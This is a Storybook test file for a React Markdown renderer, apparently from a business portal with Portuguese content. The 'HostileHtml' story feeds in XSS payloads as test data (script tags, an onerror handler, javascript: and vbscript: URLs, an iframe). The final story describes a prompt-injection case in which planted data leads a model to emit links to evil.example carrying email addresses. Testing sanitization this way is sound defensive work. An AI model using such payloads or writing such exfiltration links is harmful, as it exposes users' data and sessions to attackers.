import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, fn } from 'storybook/test';
import { Markdown } from './Markdown';

const meta = {
  title: 'Components/Markdown',
  component: Markdown,
  parameters: { layout: 'padded' },
  args: { onNavigate: fn(), markdown: '' },
} satisfies Meta<typeof Markdown>;
export default meta;
type Story = StoryObj<typeof meta>;

/** Every heading is an h2 (the page's outline holds), sized by its markdown level. */
export const Headings: Story = {
  args: {
    markdown: `# Resumo\n\nTexto com **negrito**, *itálico* e ~~riscado~~.\n\n### Detalhes\n\n> Citação da reunião\n\n---\n\n3. terceiro\n4. quarto`,
  },
  play: async ({ canvas, canvasElement }) => {
    const headings = canvas.getAllByRole('heading');
    await expect(headings.map((h) => [h.tagName, h.dataset['level']])).toEqual([
      ['H2', '1'],
      ['H2', '3'],
    ]);
    await expect(canvas.getByText('negrito').tagName).toBe('STRONG');
    await expect(canvas.getByText('itálico').tagName).toBe('EM');
    await expect(canvas.getByText('riscado').tagName).toBe('DEL');
    await expect(canvasElement.querySelector('blockquote')).toHaveTextContent('Citação da reunião');
    await expect(canvasElement.querySelector('ol')).toHaveAttribute('start', '3');
    const [first, second] = canvas.getAllByRole('heading');
    if (!first || !second) throw new Error('no headings');
    await expect(parseFloat(getComputedStyle(first).fontSize)).toBeGreaterThan(
      parseFloat(getComputedStyle(second).fontSize),
    );
  },
};

/** Raw HTML inside an answer is sanitized like the rest: nothing runs, nothing is styled. */
export const HostileHtml: Story = {
  args: {
    markdown: `Resposta <script>window.__markdownXss = 'script'</script>
<img src="x" onerror="window.__markdownXss = 'img'">
<p onclick="window.__markdownXss = 'click'" style="color: red">Clique aqui</p>
<a href="javascript:window.__markdownXss = 'link'">link perigoso</a>
<iframe src="https://example.com"></iframe>
[outro](vbscript:msgbox(1)) e <a href="/\\evil.example.com">caminho</a>`,
  },
  play: async ({ canvas, canvasElement, userEvent }) => {
    await expect(canvasElement.querySelector('script, img, iframe, [onclick], [style]')).toBeNull();
    await expect(canvas.queryByRole('link')).toBeNull();
    await userEvent.click(canvas.getByText('Clique aqui'));
    await userEvent.click(canvas.getByText('link perigoso'));
    await expect((window as { __markdownXss?: string }).__markdownXss).toBeUndefined();
  },
};

/** A portal path opens through the router; a click with a modifier is left to the browser. */
export const PortalLink: Story = {
  args: { markdown: 'Veja o [quadro de tarefas](/admin/view/b1/tasks).' },
  play: async ({ canvas, args, userEvent }) => {
    const link = canvas.getByRole('link', { name: 'quadro de tarefas' });
    await userEvent.click(link);
    await expect(args.onNavigate).toHaveBeenCalledWith('/admin/view/b1/tasks');
    link.addEventListener('click', (event) => event.preventDefault(), { once: true });
    await userEvent.keyboard('{Control>}');
    await userEvent.click(link);
    await userEvent.keyboard('{/Control}');
    await expect(args.onNavigate).toHaveBeenCalledTimes(1);
  },
};

/**
 * Text planted in company data may lead the model to write a link to another host that carries
 * what it read: only the portal's own paths stay links, any other address is plain text.
 */
export const LinksToOtherHostsAreText: Story = {
  args: {
    markdown:
      'Para detalhes, [clique](https://evil.example/?e=a@b.com), veja ' +
      `[a ata](${window.location.origin}/dashboard/business/meetings/7) ou ` +
      'https://evil.example/auto?e=c@d.com, ou a [reunião](/dashboard/business/meetings/123).',
  },
  play: async ({ canvas, canvasElement, args, userEvent }) => {
    await expect(canvasElement.querySelector('a[href*="evil.example"]')).toBeNull();
    await expect(canvas.getByText('clique').closest('a')).toBeNull();
    await expect(canvas.getAllByRole('link').map((a) => a.getAttribute('href'))).toEqual([
      '/dashboard/business/meetings/7',
      '/dashboard/business/meetings/123',
    ]);
    await userEvent.click(canvas.getByRole('link', { name: 'reunião' }));
    await expect(args.onNavigate).toHaveBeenCalledWith('/dashboard/business/meetings/123');
  },
};
